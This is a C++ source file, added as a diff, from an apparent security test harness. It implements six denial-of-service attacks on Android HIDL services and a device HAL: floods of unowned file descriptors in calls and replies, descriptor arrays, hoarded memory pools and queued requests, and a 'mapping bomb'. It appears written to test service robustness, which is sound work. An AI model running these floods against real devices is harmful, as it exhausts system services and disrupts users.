@@ -1,0 +1,230 @@
+// SPDX-License-Identifier: Apache-2.0
+//
+// Attacks on a process's table of descriptors.
+
+#include <sys/eventfd.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <array>
+#include <cstdio>
+#include <memory>
+#include <string>
+#include <vector>
+
+#include "harness/device/attacker/attack.h"
+#include "harness/device/attacker/client.h"
+
+namespace halyard::attacker {
+
+namespace {
+
+using hal::hidl::HidlString;
+using hal::hidl::HidlVec;
+using hal::hidl::base::v1_0::IBase;
+using wire::IDevice;
+using Manager = hal::hidl::manager::v1_2::IServiceManager;
+using OldManager = hal::hidl::manager::v1_1::IServiceManager;
+
+// As many as libhidl's own kernel objects in one parcel may be at a time.
+constexpr size_t kDescriptors = 254;
+constexpr size_t kUnusedPools = 60;
+constexpr uint32_t kManager = 0;
+constexpr uint32_t kUnknownCode = 4711;
+constexpr std::string_view kManagerToken = "android.hidl.manager@1.0::IServiceManager";
+
+void addDescriptors(RawParcel& parcel, int fd, size_t count = kDescriptors) {
+    for (size_t i = 0; i < count; ++i) {
+        parcel.descriptor(fd);
+    }
+}
+
+// Calls that carry descriptors which belong to no argument. `against` says where and how.
+Status floodWithDescriptors(const Settings& settings) {
+    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Client> client,
+                             Client::connect(settings.instance));
+    const int fd = eventfd(0, EFD_CLOEXEC);
+    const bool manager = settings.against.starts_with("manager");
+    const bool refused = settings.against.ends_with("refused");
+    const bool unknown = settings.against.ends_with("unknown");
+    const bool oneway = settings.against.ends_with("oneway");
+    const uint32_t target = manager ? kManager : client->device();
+    const uint32_t code = unknown   ? kUnknownCode
+                          : manager ? static_cast<uint32_t>(Manager::list)
+                                    : static_cast<uint32_t>(IDevice::getStatus);
+    int answered = 0;
+    std::string last;
+    for (int call = 0; call < settings.clients; ++call) {
+        RawParcel parcel;
+        if (refused) {
+            parcel.token("nobody@1.0::INothing");
+        } else if (manager) {
+            parcel.token(kManagerToken);
+        } else {
+            deviceToken(parcel, IDevice::getStatus);
+        }
+        addDescriptors(parcel, fd);
+        Status done;
+        if (oneway) {
+            done = client->link().callOneway(target, code, parcel).status();
+        } else {
+            done = client->link().call(target, code, parcel).status();
+        }
+        answered += done.ok() ? 1 : 0;
+        last = done.toString();
+    }
+    printf("%d calls with %zu descriptors each, %d answered; the last: %s\n", settings.clients,
+           kDescriptors, answered, last.c_str());
+    return {};
+}
+
+// hwservicemanager asks a new service for its chain; the reply brings descriptors.
+Status floodInReplies(const Settings& settings) {
+    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Link> link, Link::open());
+    const int fd = eventfd(0, EFD_CLOEXEC);
+    int asked = 0;
+    for (int i = 0; i < settings.clients; ++i) {
+        const uint64_t object =
+                link->addObject([fd, &asked](const Received& /*call*/, RawParcel& reply) {
+                    ++asked;
+                    reply.int32(0);
+                    addDescriptors(reply, fd);
+                    return true;
+                });
+        RawParcel parcel;
+        parcel.token(kManagerToken);
+        parcel.string("flood" + std::to_string(i));
+        parcel.ownObject(object);
+        // The call that comes in reaches this thread while it waits for the reply.
+        static_cast<void>(link->call(kManager, OldManager::add, parcel));
+        // Or another, where the manager answers first.
+        link->serveUntil([&] { return asked > i; }, std::chrono::milliseconds(500));
+    }
+    printf("%d replies with %zu descriptors each\n", asked, kDescriptors);
+    return {};
+}
+
+// Descriptors in arrays, which the kernel closes with the buffer, in calls that are served and not.
+Status floodWithArrays(const Settings& settings) {
+    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Client> client,
+                             Client::connect(settings.instance));
+    HALYARD_ASSIGN_OR_RETURN(const Pool file, Pool::make(0));
+    const std::vector<int> many(kDescriptors, file.fd);
+    for (int call = 0; call < settings.clients; ++call) {
+        RawParcel debug;
+        deviceToken(debug, IBase::debug);
+        debug.handle(many);
+        debug.value(HidlVec<HidlString>());
+        static_cast<void>(client->link().call(client->device(), IBase::debug, debug));
+        RawParcel status;
+        deviceToken(status, IDevice::getStatus);
+        status.handle(many);
+        static_cast<void>(client->link().call(client->device(), IDevice::getStatus, status));
+        RawParcel unknown;
+        deviceToken(unknown, IDevice::getStatus);
+        unknown.handle(many);
+        static_cast<void>(client->link().call(client->device(), kUnknownCode, unknown));
+    }
+    printf("%d calls with an array of %zu descriptors each\n", 3 * settings.clients, kDescriptors);
+    return {};
+}
+
+Result<uint32_t> hoard(Client& client, const Pool& pool, size_t pools) {
+    ModelBuilder model;
+    addModel(model, 16);
+    for (size_t i = 0; i < pools; ++i) {
+        model.pool(pool);
+    }
+    return client.prepare(model.finish());
+}
+
+// Models that keep pools which no operand lies in.
+Status hoardPools(const Settings& settings) {
+    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Client> client,
+                             Client::connect(settings.instance));
+    HALYARD_ASSIGN_OR_RETURN(const Pool pool, Pool::make(4096));
+    int held = 0;
+    std::string last;
+    // Fewer pools where there is no room for more, to the last descriptor.
+    for (size_t pools = kUnusedPools; pools > 0 && held < settings.clients;) {
+        const Result<uint32_t> model = hoard(*client, pool, pools);
+        held += model.ok() ? 1 : 0;
+        pools /= model.ok() ? 1 : 2;
+        last = model.status().toString();
+    }
+    printf("holds %d models of up to %zu unused pools; the last: %s\n", held, kUnusedPools,
+           last.c_str());
+    hold(client->link(), settings);
+    return {};
+}
+
+// Requests that wait behind endless ones, with pools that they do not use.
+Status hoardRequests(const Settings& settings) {
+    constexpr int kRunning = 16;
+    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Client> client,
+                             Client::connect(settings.instance));
+    ModelBuilder endless;
+    endlessModel(endless);
+    HALYARD_ASSIGN_OR_RETURN(const uint32_t model, client->prepare(endless.finish()));
+    HALYARD_ASSIGN_OR_RETURN(const Pool pool, Pool::make(4096));
+    const RequestBuilder plain(pool, 4, 4);
+    const RequestBuilder heavy(pool, 4, 4, std::vector<Pool>(kUnusedPools, pool));
+    const Times times = {.deadline = {}, .loopTimeout = 15'000'000'000};
+    int queued = 0;
+    for (int i = 0; i < kRunning + settings.clients; ++i) {
+        const Result<ErrorStatus> launched =
+                client->launch(model, (i < kRunning ? plain : heavy).request(),
+                               std::make_shared<Notified>(), times);
+        queued += launched.ok() && *launched == ErrorStatus::NONE ? 1 : 0;
+    }
+    printf("%d requests in the queue, %zu pools each\n", queued, kUnusedPools);
+    hold(client->link(), settings);
+    return {};
+}
+
+// Thousands of mappings: models with as many pools as a parcel takes, all of them used.
+Status mappingBomb(const Settings& settings) {
+    constexpr uint32_t kPools = 200;
+    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Client> client,
+                             Client::connect(settings.instance));
+    HALYARD_ASSIGN_OR_RETURN(const Pool pool, Pool::make(4096));
+    int held = 0;
+    std::string last;
+    for (int i = 0; i < settings.clients; ++i) {
+        ModelBuilder model;
+        uint32_t from = model.input({1, 16});
+        const uint32_t none = model.scalar(0);
+        for (uint32_t p = 0; p < kPools; ++p) {
+            model.pool(pool);
+            const uint32_t constant = model.inPool({1, 16}, p, 0);
+            const uint32_t to = p + 1 == kPools ? model.output({1, 16}) : model.tensor({1, 16});
+            model.operation(OperationType::ADD, {from, constant, none}, {to});
+            from = to;
+        }
+        const Result<uint32_t> prepared = client->prepare(model.finish());
+        held += prepared.ok() ? 1 : 0;
+        last = prepared.status().toString();
+    }
+    printf("holds %d models of %u mapped pools; the last: %s\n", held, kPools, last.c_str());
+    hold(client->link(), settings);
+    return {};
+}
+
+constexpr std::array<NamedAttack, 6> kAttacks = {{
+        {"fd-flood", floodWithDescriptors,
+         "calls with descriptors that belong to nothing; --against [manager-][refused|unknown|"
+         "oneway]"},
+        {"fd-flood-reply", floodInReplies, "the same in replies to hwservicemanager"},
+        {"fda-flood", floodWithArrays, "calls with arrays of descriptors"},
+        {"pool-hoarder", hoardPools, "models that keep pools which they do not use"},
+        {"request-hoarder", hoardRequests, "waiting requests that keep pools"},
+        {"mapping-bomb", mappingBomb, "models that use hundreds of pools each"},
+}};
+
+}  // namespace
+
+std::span<const NamedAttack> descriptorAttacks() {
+    return kAttacks;
+}
+
+}  // namespace halyard::attacker
